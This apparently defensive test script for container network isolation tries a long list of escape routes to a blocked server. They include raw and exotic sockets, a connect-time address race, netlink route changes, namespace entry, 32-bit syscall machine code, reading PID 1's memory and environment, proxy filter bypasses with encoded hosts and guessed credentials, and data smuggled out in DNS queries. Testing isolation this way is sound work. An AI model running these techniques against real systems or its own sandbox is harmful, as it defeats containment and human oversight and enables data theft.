# Tries to leave the container by every way but an allowed connection. It stands behind lines that set ADDRESS, a server
# that nobody allows, and NEAR, this host's own address beside it. Each try prints a line; "done" is the last.
import base64, ctypes, errno, json, mmap, os, socket, struct, sys, threading, urllib.parse

libc = ctypes.CDLL(None, use_errno=True)
HELLO = b"GET /hello HTTP/1.0\r\n\r\n"


def tried(what, do, *arguments):
    try:
        print(what, "went through:", do(*arguments))
    except OSError as error:
        print(what, "failed:", errno.errorcode.get(error.errno, error))
    except Exception as error:
        print(what, "failed:", type(error).__name__, error)


def call(number, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), "call")
    return result


def in_child(what, do, *arguments):
    """A try that may be answered with a signal."""
    sys.stdout.flush()
    child = os.fork()
    if child == 0:
        tried(what, do, *arguments)
        sys.stdout.flush()
        os._exit(0)
    status = os.waitpid(child, 0)[1]
    if os.WIFSIGNALED(status):
        print(what, "failed: signal", os.WTERMSIG(status))


# Sockets of every kind ------------------------------------------------------------------------------------------------
def connected(family, kind, protocol, to, data=HELLO):
    s = socket.socket(family, kind, protocol)
    s.settimeout(5)
    s.connect(to)
    return s.send(data)


def sent(family, kind, protocol, to, data=HELLO, flags=0):
    s = socket.socket(family, kind, protocol)
    s.settimeout(5)
    return s.sendto(data, flags, to)


V4, V6, TCP, UDP = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM
MAPPED, NAT64 = "::ffff:" + ADDRESS, "64:ff9b::" + ADDRESS
SIX_TO_FOUR = "2002:" + socket.inet_aton(ADDRESS).hex(":", 2) + "::1"
for port in (7, 22, 80, 443):
    tried(f"tcp {port}", connected, V4, TCP, 0, (ADDRESS, port))
for name in (MAPPED, NAT64, SIX_TO_FOUR):
    tried(f"tcp {name}", connected, V6, TCP, 0, (name, 80))
    tried(f"udp {name}", sent, V6, UDP, 0, (name, 443))
for port in (53, 123, 443):
    tried(f"udp {port}", sent, V4, UDP, 0, (ADDRESS, port))
    tried(f"connected udp {port}", connected, V4, UDP, 0, (ADDRESS, port))
tried("fast open", sent, V4, TCP, 0, (ADDRESS, 80), HELLO, 0x20000000)
tried("mptcp", connected, V4, TCP, 262, (ADDRESS, 80))
tried("mptcp fast open", sent, V4, TCP, 262, (ADDRESS, 80), HELLO, 0x20000000)
tried("sctp", connected, V4, TCP, 132, (ADDRESS, 80))
tried("udp lite", sent, V4, UDP, 136, (ADDRESS, 443))
tried("dccp", connected, V4, 6, 33, (ADDRESS, 80))
tried("icmp", sent, V4, UDP, 1, (ADDRESS, 0), b"\x08\0\xf7\xff\0\0\0\0")
tried("raw icmp", sent, V4, socket.SOCK_RAW, 1, (ADDRESS, 0), b"\x08\0\xf7\xff\0\0\0\0")
tried("raw ip", sent, V4, socket.SOCK_RAW, 255, (ADDRESS, 0))
tried("packet", lambda: socket.socket(17, socket.SOCK_RAW, 0x0300).bind(("lo", 0)))
tried("vsock", lambda: socket.socket(40, TCP, 0).connect((2, 80)))
tried("own address of the host", connected, V4, TCP, 0, (NEAR, 22))
tried("gateway", connected, V4, TCP, 0, ("172.17.0.1", 22))
tried("broadcast", sent, V4, UDP, 0, ("255.255.255.255", 67))
tried("multicast", sent, V4, UDP, 0, ("224.0.0.251", 5353))


def late_fast_open():
    s = socket.socket()
    s.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
    s.connect((ADDRESS, 80))
    return s.send(HELLO)


tried("fast open by connect", late_fast_open)


def bound():
    s = socket.socket()
    s.settimeout(0.3)  # the kernel sends it on lo, where nobody has this address
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")
    s.connect((ADDRESS, 80))
    return s.send(HELLO)


tried("bound to lo", bound)


# The address changes while the call is looked at ----------------------------------------------------------------------
def race():
    there = struct.pack("!HH4s8x", 0, 80, socket.inet_aton(ADDRESS))
    there = struct.pack("=H", 2) + there[2:]
    here = struct.pack("=H", 2) + struct.pack("!H4s8x", 53, b"\x7f\0\0\1")
    address = ctypes.create_string_buffer(here, 16)
    over = threading.Event()

    def swap():
        while not over.is_set():
            ctypes.memmove(address, there, 16)
            ctypes.memmove(address, here, 16)

    threading.Thread(target=swap, daemon=True).start()
    outcomes = []
    for _ in range(200):
        s = socket.socket()
        if libc.connect(s.fileno(), address, 16) == 0:
            try:
                s.send(b"\0\1x")
                outcomes.append(s.getpeername()[1])
            except OSError:
                pass
        s.close()
    over.set()
    elsewhere = [port for port in outcomes if port != 53]
    if not elsewhere:
        raise OSError(errno.EACCES, "only the resolver")
    return elsewhere


tried("race", race)


# The kernel's other doors ---------------------------------------------------------------------------------------------
def netlink(kind, body):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.settimeout(5)
    s.bind((0, 0))
    s.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
    error = struct.unpack_from("=i", s.recv(4096), 16)[0]
    if error:
        raise OSError(-error, "netlink")
    return "changed"


address = socket.inet_aton(ADDRESS)
tried("netlink route", netlink, 24, struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0)
      + struct.pack("=HH4s", 8, 1, address) + struct.pack("=HHI", 8, 4, 1))
tried("netlink address", netlink, 20, struct.pack("=BBBBI", 2, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, address))
tried("netlink link", netlink, 16, struct.pack("=BxHiII", 0, 0, 0, 1, 1)
      + struct.pack("=HH", 16, 18) + struct.pack("=HH5s3x", 9, 1, b"dummy"))
tried("io_uring", call, 425, 8, ctypes.create_string_buffer(120))
tried("user namespace", call, 272, 0x10000000 | 0x40000000)
tried("network namespace", call, 272, 0x40000000)
tried("namespace of PID 1", lambda: call(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0))
tried("tun", lambda: os.open("/dev/net/tun", os.O_RDWR))
tried("bpf", call, 321, 0, ctypes.create_string_buffer(120), 120)
tried("descriptors of PID 1", lambda: [call(438, os.pidfd_open(1), n, 0) for n in range(3)])
tried("memory of PID 1", lambda: open("/proc/1/mem", "rb").read(1))
tried("environment of PID 1", lambda: open("/proc/1/environ", "rb").read(1))
tried("trace PID 1", lambda: libc.ptrace(16, 1, 0, 0) and call(101, 16, 1, 0, 0))


def of_32_bits(by_socketcall):
    """socket and connect as a program of 32 bits calls them, by the one call for all of sockets or by their own."""
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)  # MAP_32BIT
    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
    page[2048:2064] = struct.pack("=H", 2) + struct.pack("!H4s8x", 80, socket.inet_aton(ADDRESS))

    def run(number, *arguments):
        b, c, d = arguments
        code = b"\x53\xb8" + struct.pack("=I", number) + b"\xbb" + struct.pack("=I", b)
        code += b"\xb9" + struct.pack("=I", c) + b"\xba" + struct.pack("=I", d) + b"\xcd\x80\x5b\xc3"
        page[: len(code)] = code
        result = ctypes.CFUNCTYPE(ctypes.c_int)(base)()
        if result < 0:
            raise OSError(-result, "a call of 32 bits")
        return result

    def of_sockets(number, *arguments):
        page[3072:3084] = struct.pack("=3I", *arguments)
        return run(102, number, base + 3072, 0)

    fd = of_sockets(1, 2, 1, 0) if by_socketcall else run(359, 2, 1, 0)
    connect = (of_sockets, 3) if by_socketcall else (run, 362)
    connect[0](connect[1], fd, base + 2048, 16)
    return os.write(fd, HELLO)


def of_x32():
    s = socket.socket()
    to = struct.pack("=H", 2) + struct.pack("!H4s8x", 80, socket.inet_aton(ADDRESS))
    return call(0x40000000 | 42, s.fileno(), to, 16)


in_child("32 bits", of_32_bits, False)
in_child("32 bits by socketcall", of_32_bits, True)
in_child("x32", of_x32)

# PID 1's own servers --------------------------------------------------------------------------------------------------
proxy = urllib.parse.urlsplit(os.environ["http_proxy"])


def asked(request, user=None):
    """Asks the proxy, with the credential of this run unless another is given."""
    user = base64.b64encode((user or f"{proxy.username}:{proxy.password}").encode()).decode()
    s = socket.create_connection((proxy.hostname, proxy.port), 5)
    s.sendall(request.encode() + f"\r\nProxy-Authorization: Basic {user}\r\nConnection: close\r\n\r\n".encode())
    answer = s.makefile("rb").readline().decode().strip()
    if " 200 " in answer:
        return answer
    raise Exception(answer or "no answer")


number = int.from_bytes(address, "big")
octal = ".".join(f"0{part:o}" for part in address)
for host in (ADDRESS, str(number), hex(number), octal, f"[{MAPPED}]", f"[{NAT64}]", "blocked.example",
             "BLOCKED.example.", "far.example.blocked.example", "far.example\0.blocked.example", "far.example%00",
             "far.example@" + ADDRESS):
    tried(f"CONNECT {host!r}", asked, f"CONNECT {host}:80 HTTP/1.1")
    tried(f"GET {host!r}", asked, f"GET http://{host}/hello HTTP/1.1\r\nHost: far.example:9")
for user in ("run:", "run:guess", ":", "root:root"):
    tried(f"credential {user}", asked, "CONNECT far.example:9 HTTP/1.1", user)
tried("proxy to itself", asked, f"CONNECT 127.0.0.1:{proxy.port} HTTP/1.1")
for text in (str(number), hex(number), octal):
    tried(f"text {text}", socket.create_connection, (text, 80), 5)


def question(name, kind=1, stream=False):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    question = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
    s = socket.socket(V4, TCP if stream else UDP)
    s.settimeout(5)
    s.connect(("127.0.0.1", 53))
    s.send(struct.pack("!H", len(question)) + question if stream else question)
    answer = s.recv(4096)[2 if stream else 0:]
    flags, answers = struct.unpack_from("!2xHxxH", answer)
    if answers:
        return answer
    raise Exception(f"answer code {flags & 15}")


data = base64.b32encode(b"a secret that is sent in a question").decode().strip("=").lower()
for name in (f"{data}.blocked.example", f"{data}.far.example", "blocked.example", "private.example"):
    for kind in (1, 28, 16, 255):
        tried(f"question {name} {kind}", question, name, kind)
tried("question by tcp", question, f"{data}.blocked.example", 1, True)
tried("resolver of others", lambda: sent(V4, UDP, 0, ("8.8.8.8", 53), b"x"))
print("done")
